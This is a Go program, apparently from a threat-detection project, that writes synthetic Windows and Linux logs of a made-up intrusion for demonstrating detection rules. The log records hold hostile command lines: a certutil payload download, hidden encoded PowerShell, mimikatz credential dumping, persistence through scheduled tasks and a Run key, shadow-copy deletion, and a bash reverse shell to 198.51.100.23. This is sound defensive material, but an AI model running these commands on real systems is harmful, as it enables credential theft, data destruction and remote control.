// Command gensample writes the small sample of logs the project ships in
// testdata/sample, so that `bulwark detect testdata/sample` shows what
// detection looks like on a fresh clone with no download. The story: a
// phishing document on an accountant's workstation leads to credential
// theft, persistence and an attempt to destroy backups, while someone brute
// forces the domain controller and a Linux web server.
//
// Everything here is made up by this project (hosts, users, addresses from
// the documentation ranges), so the sample can ship under the project's
// licence. Run it with `go generate ./cmd/bulwark`.
package main

import (
	"flag"
	"fmt"
	"log"
	"os"
	"path/filepath"
	"strings"
	"time"

	"github.com/bulwarkhq/bulwark/logs/evtx/evtxtest"
)

const (
	sysmonProvider = "Microsoft-Windows-Sysmon"
	sysmonGUID     = "5770385F-C22A-43E0-BF4C-06F5698FFBD9"
	sysmonChannel  = "Microsoft-Windows-Sysmon/Operational"
	secProvider    = "Microsoft-Windows-Security-Auditing"
	secGUID        = "54849625-5478-4994-A5BA-3E3B0328C30D"
	workstation    = "WS-ACCT-07.corp.example"
	dc             = "DC01.corp.example"
)

var start = time.Date(2026, 3, 14, 9, 12, 0, 0, time.UTC)

func main() {
	out := flag.String("out", "testdata/sample", "directory to write the sample into")
	flag.Parse()
	if err := os.MkdirAll(*out, 0o755); err != nil {
		log.Fatal(err)
	}
	write := func(name string, data []byte) {
		if err := os.WriteFile(filepath.Join(*out, name), data, 0o644); err != nil {
			log.Fatal(err)
		}
	}
	write("WS-ACCT-07-sysmon.evtx", evtxtest.MustBuild(workstationEvents(), evtxtest.Options{}))
	write("DC01-security.evtx", evtxtest.MustBuild(dcEvents(), evtxtest.Options{}))
	write("web01-auth.log", []byte(authLog()))
	fmt.Println("wrote", *out)
}

// proc is one Sysmon process creation.
type proc struct {
	at            time.Duration
	image, cmd    string
	parent, pcmd  string
	user          string
	originalName  string
	pid, ppid     uint32
	integrity     string
	hashesComment string
}

func sysmon(id uint16, at time.Duration, rec uint64, data []evtxtest.Data) evtxtest.Record {
	return evtxtest.Record{
		Provider: sysmonProvider, ProviderGUID: sysmonGUID, EventID: id, Version: 5, Level: 4, Task: id,
		Keywords: 0x8000000000000000, Time: start.Add(at), RecordID: rec, ProcessID: 3112, ThreadID: 4120,
		Channel: sysmonChannel, Computer: workstation, UserID: "S-1-5-18", EventData: data,
	}
}

func guid(n int) string { return fmt.Sprintf("6C1F2E3A-%04X-65F2-1D00-000000000B00", n) }

func workstationEvents() []evtxtest.Record {
	user := `CORP\j.doe`
	procs := []proc{
		{at: 0, image: `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`, cmd: `"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\j.doe\Downloads\Invoice_March.docm"`,
			parent: `C:\Windows\explorer.exe`, pcmd: `C:\Windows\Explorer.EXE`, originalName: "WinWord.exe", pid: 5412, ppid: 4020, integrity: "Medium"},
		{at: 40 * time.Second, image: `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
			cmd:    `powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA`,
			parent: `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`, pcmd: `"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\j.doe\Downloads\Invoice_March.docm"`,
			originalName: "PowerShell.EXE", pid: 6120, ppid: 5412, integrity: "Medium"},
		{at: 75 * time.Second, image: `C:\Windows\System32\certutil.exe`, cmd: `certutil.exe -urlcache -split -f http://198.51.100.23/a/upd.exe C:\Users\Public\upd.exe`,
			parent: `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, pcmd: `powershell.exe -nop -w hidden -enc SQBFAFgA`, originalName: "CertUtil.exe", pid: 6344, ppid: 6120, integrity: "Medium"},
		{at: 2 * time.Minute, image: `C:\Windows\System32\whoami.exe`, cmd: `whoami /all`,
			parent: `C:\Windows\System32\cmd.exe`, pcmd: `cmd.exe /c whoami /all`, originalName: "whoami.exe", pid: 6512, ppid: 6480, integrity: "Medium"},
		{at: 2*time.Minute + 10*time.Second, image: `C:\Windows\System32\net.exe`, cmd: `net group "domain admins" /domain`,
			parent: `C:\Windows\System32\cmd.exe`, pcmd: `cmd.exe /c net group "domain admins" /domain`, originalName: "net.exe", pid: 6530, ppid: 6480, integrity: "Medium"},
		{at: 6 * time.Minute, image: `C:\Users\Public\upd.exe`, cmd: `C:\Users\Public\upd.exe "privilege::debug" "sekurlsa::logonpasswords" exit`,
			parent: `C:\Windows\System32\cmd.exe`, pcmd: `cmd.exe`, originalName: "mimikatz.exe", pid: 7012, ppid: 6480, integrity: "High"},
		{at: 9 * time.Minute, image: `C:\Windows\System32\schtasks.exe`, cmd: `schtasks /create /tn "OfficeUpdate" /tr "C:\Users\Public\upd.exe" /sc onlogon /ru SYSTEM`,
			parent: `C:\Windows\System32\cmd.exe`, pcmd: `cmd.exe`, originalName: "schtasks.exe", pid: 7230, ppid: 6480, integrity: "High"},
		{at: 12 * time.Minute, image: `C:\Windows\System32\vssadmin.exe`, cmd: `vssadmin.exe delete shadows /all /quiet`,
			parent: `C:\Windows\System32\cmd.exe`, pcmd: `cmd.exe /c vssadmin.exe delete shadows /all /quiet`, originalName: "VSSADMIN.EXE", pid: 7410, ppid: 7400, integrity: "High"},
		// Ordinary activity the rules must leave alone.
		{at: 20 * time.Minute, image: `C:\Windows\System32\notepad.exe`, cmd: `"C:\Windows\System32\notepad.exe" C:\Users\j.doe\Documents\todo.txt`,
			parent: `C:\Windows\explorer.exe`, pcmd: `C:\Windows\Explorer.EXE`, originalName: "NOTEPAD.EXE", pid: 8120, ppid: 4020, integrity: "Medium"},
	}
	var recs []evtxtest.Record
	rec := uint64(18230)
	for i, p := range procs {
		rec++
		recs = append(recs, sysmon(1, p.at, rec, []evtxtest.Data{
			{Name: "RuleName", Value: "-"},
			{Name: "UtcTime", Value: start.Add(p.at).Format("2006-01-02 15:04:05.000")},
			{Name: "ProcessGuid", Value: "{" + guid(0x100+i) + "}"},
			{Name: "ProcessId", Value: p.pid},
			{Name: "Image", Value: p.image},
			{Name: "FileVersion", Value: "-"},
			{Name: "Description", Value: "-"},
			{Name: "Product", Value: "-"},
			{Name: "Company", Value: "-"},
			{Name: "OriginalFileName", Value: p.originalName},
			{Name: "CommandLine", Value: p.cmd},
			{Name: "CurrentDirectory", Value: `C:\Users\j.doe\`},
			{Name: "User", Value: user},
			{Name: "LogonGuid", Value: "{" + guid(0x42) + "}"},
			{Name: "LogonId", Value: evtxtest.Hex64(0x3a2f1c)},
			{Name: "TerminalSessionId", Value: uint32(1)},
			{Name: "IntegrityLevel", Value: p.integrity},
			{Name: "Hashes", Value: fmt.Sprintf("SHA256=%064X", 0xa11ce+i)},
			{Name: "ParentProcessGuid", Value: "{" + guid(0x200+i) + "}"},
			{Name: "ParentProcessId", Value: p.ppid},
			{Name: "ParentImage", Value: p.parent},
			{Name: "ParentCommandLine", Value: p.pcmd},
			{Name: "ParentUser", Value: user},
		}))
	}
	// Sysmon 10: the credential dumper opens lsass.
	rec++
	recs = append(recs, sysmon(10, 6*time.Minute+2*time.Second, rec, []evtxtest.Data{
		{Name: "RuleName", Value: "-"},
		{Name: "UtcTime", Value: start.Add(6*time.Minute + 2*time.Second).Format("2006-01-02 15:04:05.000")},
		{Name: "SourceProcessGUID", Value: "{" + guid(0x105) + "}"},
		{Name: "SourceProcessId", Value: uint32(7012)},
		{Name: "SourceThreadId", Value: uint32(7016)},
		{Name: "SourceImage", Value: `C:\Users\Public\upd.exe`},
		{Name: "TargetProcessGUID", Value: "{" + guid(0x10) + "}"},
		{Name: "TargetProcessId", Value: uint32(664)},
		{Name: "TargetImage", Value: `C:\Windows\system32\lsass.exe`},
		{Name: "GrantedAccess", Value: "0x1010"},
		{Name: "CallTrace", Value: `C:\Windows\SYSTEM32\ntdll.dll+9d4c4|C:\Windows\System32\KERNELBASE.dll+2c13e|UNKNOWN(00000000004A1C2B)`},
		{Name: "SourceUser", Value: user},
		{Name: "TargetUser", Value: `NT AUTHORITY\SYSTEM`},
	}))
	// Sysmon 13: persistence in a Run key.
	rec++
	recs = append(recs, sysmon(13, 9*time.Minute+30*time.Second, rec, []evtxtest.Data{
		{Name: "RuleName", Value: "T1060,RunKey"},
		{Name: "EventType", Value: "SetValue"},
		{Name: "UtcTime", Value: start.Add(9*time.Minute + 30*time.Second).Format("2006-01-02 15:04:05.000")},
		{Name: "ProcessGuid", Value: "{" + guid(0x105) + "}"},
		{Name: "ProcessId", Value: uint32(7012)},
		{Name: "Image", Value: `C:\Users\Public\upd.exe`},
		{Name: "TargetObject", Value: `HKU\S-1-5-21-1004336348-1177238915-682003330-1104\Software\Microsoft\Windows\CurrentVersion\Run\OfficeUpdate`},
		{Name: "Details", Value: `C:\Windows\System32\mshta.exe vbscript:Execute("CreateObject(""WScript.Shell"").Run ""C:\Users\Public\upd.exe""")`},
		{Name: "User", Value: user},
	}))
	return recs
}

func security(id uint16, at time.Duration, rec uint64, keywords uint64, data []evtxtest.Data) evtxtest.Record {
	return evtxtest.Record{
		Provider: secProvider, ProviderGUID: secGUID, EventID: id, Version: 0, Level: 0, Task: 12544,
		Keywords: keywords, Time: start.Add(at), RecordID: rec, ProcessID: 652, ThreadID: 1880,
		Channel: "Security", Computer: dc, EventData: data,
	}
}

const (
	auditSuccess = 0x8020000000000000
	auditFailure = 0x8010000000000000
)

func dcEvents() []evtxtest.Record {
	var recs []evtxtest.Record
	rec := uint64(912000)
	next := func() uint64 { rec++; return rec }
	// 25 failed logons for the administrator within four minutes.
	for i := 0; i < 25; i++ {
		at := 30*time.Minute + time.Duration(i)*9*time.Second
		recs = append(recs, security(4625, at, next(), auditFailure, failedLogon("Administrator", "203.0.113.50", "KALI")))
	}
	// A spray: one password tried for twelve accounts from another address.
	for i, u := range []string{"a.smith", "b.jones", "c.brown", "d.white", "e.green", "f.black", "g.hall", "h.young", "i.king", "j.doe", "k.wright", "l.scott"} {
		at := 40*time.Minute + time.Duration(i)*20*time.Second
		recs = append(recs, security(4625, at, next(), auditFailure, failedLogon(u, "203.0.113.77", "")))
	}
	// Kerberoasting: an RC4 service ticket for a service account.
	recs = append(recs, security(4769, 50*time.Minute, next(), auditSuccess, []evtxtest.Data{
		{Name: "TargetUserName", Value: "j.doe@CORP.EXAMPLE"},
		{Name: "TargetDomainName", Value: "CORP.EXAMPLE"},
		{Name: "ServiceName", Value: "svc_sql"},
		{Name: "ServiceSid", Value: evtxtest.SID("S-1-5-21-1004336348-1177238915-682003330-1601")},
		{Name: "TicketOptions", Value: evtxtest.Hex32(0x40810000)},
		{Name: "TicketEncryptionType", Value: evtxtest.Hex32(0x17)},
		{Name: "IpAddress", Value: "::ffff:192.0.2.17"},
		{Name: "IpPort", Value: "51234"},
		{Name: "Status", Value: evtxtest.Hex32(0)},
		{Name: "LogonGuid", Value: evtxtest.GUID("{" + guid(0x77) + "}")},
		{Name: "TransmittedServices", Value: "-"},
	}))
	// A back door: a new member of the local Administrators group.
	recs = append(recs, security(4732, 55*time.Minute, next(), auditSuccess, []evtxtest.Data{
		{Name: "MemberName", Value: "CN=support,CN=Users,DC=corp,DC=example"},
		{Name: "MemberSid", Value: evtxtest.SID("S-1-5-21-1004336348-1177238915-682003330-1610")},
		{Name: "TargetUserName", Value: "Administrators"},
		{Name: "TargetDomainName", Value: "Builtin"},
		{Name: "TargetSid", Value: evtxtest.SID("S-1-5-32-544")},
		{Name: "SubjectUserSid", Value: evtxtest.SID("S-1-5-21-1004336348-1177238915-682003330-1104")},
		{Name: "SubjectUserName", Value: "j.doe"},
		{Name: "SubjectDomainName", Value: "CORP"},
		{Name: "SubjectLogonId", Value: evtxtest.Hex64(0x3a2f1c)},
		{Name: "PrivilegeList", Value: "-"},
	}))
	// Covering tracks.
	recs = append(recs, evtxtest.Record{
		Provider: "Microsoft-Windows-Eventlog", ProviderGUID: "FC65DDD8-D6EF-4962-83D5-6E5CFE9CE148",
		EventID: 1102, Level: 4, Task: 104, Keywords: 0x4020000000000000, Time: start.Add(58 * time.Minute),
		RecordID: next(), ProcessID: 1024, ThreadID: 2260, Channel: "Security", Computer: dc,
		UserData: &evtxtest.UserData{Element: "LogFileCleared", Namespace: "http://manifests.microsoft.com/win/2004/08/windows/eventlog",
			Fields: []evtxtest.Data{
				{Name: "SubjectUserSid", Value: evtxtest.SID("S-1-5-21-1004336348-1177238915-682003330-1104")},
				{Name: "SubjectUserName", Value: "j.doe"},
				{Name: "SubjectDomainName", Value: "CORP"},
				{Name: "SubjectLogonId", Value: evtxtest.Hex64(0x3a2f1c)},
			}},
	})
	return recs
}

func failedLogon(user, ip, workstation string) []evtxtest.Data {
	return []evtxtest.Data{
		{Name: "SubjectUserSid", Value: evtxtest.SID("S-1-0-0")},
		{Name: "SubjectUserName", Value: "-"},
		{Name: "SubjectDomainName", Value: "-"},
		{Name: "SubjectLogonId", Value: evtxtest.Hex64(0)},
		{Name: "TargetUserSid", Value: evtxtest.SID("S-1-0-0")},
		{Name: "TargetUserName", Value: user},
		{Name: "TargetDomainName", Value: "CORP"},
		{Name: "Status", Value: evtxtest.Hex32(0xc000006d)},
		{Name: "FailureReason", Value: "%%2313"},
		{Name: "SubStatus", Value: evtxtest.Hex32(0xc000006a)},
		{Name: "LogonType", Value: uint32(3)},
		{Name: "LogonProcessName", Value: "NtLmSsp "},
		{Name: "AuthenticationPackageName", Value: "NTLM"},
		{Name: "WorkstationName", Value: workstation},
		{Name: "TransmittedServices", Value: "-"},
		{Name: "LmPackageName", Value: "-"},
		{Name: "KeyLength", Value: uint32(0)},
		{Name: "ProcessId", Value: evtxtest.Hex64(0)},
		{Name: "ProcessName", Value: "-"},
		{Name: "IpAddress", Value: ip},
		{Name: "IpPort", Value: "49152"},
	}
}

// authLog is a Debian-style /var/log/auth.log of a web server.
func authLog() string {
	var b strings.Builder
	t := time.Date(2026, 3, 14, 9, 40, 0, 0, time.UTC)
	line := func(at time.Duration, tag string, pid int, msg string) {
		fmt.Fprintf(&b, "%s web01 %s[%d]: %s\n", t.Add(at).Format(time.Stamp), tag, pid, msg)
	}
	line(0, "sshd", 2210, "Accepted publickey for deploy from 192.0.2.10 port 51022 ssh2: ED25519 SHA256:Qm3z1bq2s0dNk3Yq8m1V7cWg0b0k1s2aJ8x0c9b1d2e")
	for i := 0; i < 14; i++ {
		user := []string{"root", "admin", "oracle", "postgres", "ubuntu", "test", "git"}[i%7]
		msg := fmt.Sprintf("Failed password for %s from 203.0.113.50 port %d ssh2", user, 40000+i*7)
		if user != "root" {
			msg = fmt.Sprintf("Failed password for invalid user %s from 203.0.113.50 port %d ssh2", user, 40000+i*7)
		}
		line(time.Minute+time.Duration(i)*6*time.Second, "sshd", 2300+i, msg)
	}
	line(5*time.Minute, "sshd", 2400, "Accepted password for deploy from 203.0.113.50 port 41022 ssh2")
	line(6*time.Minute, "sudo", 2450, "  deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/bin/bash")
	line(7*time.Minute, "useradd", 2470, "new user: name=backup2, UID=1002, GID=1002, home=/home/backup2, shell=/bin/bash, from=/dev/pts/0")
	line(8*time.Minute, "CRON", 2490, "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)")
	line(9*time.Minute, "cron", 2491, "(root) CMD (bash -c 'bash -i >& /dev/tcp/198.51.100.23/4444 0>&1')")
	return b.String()
}
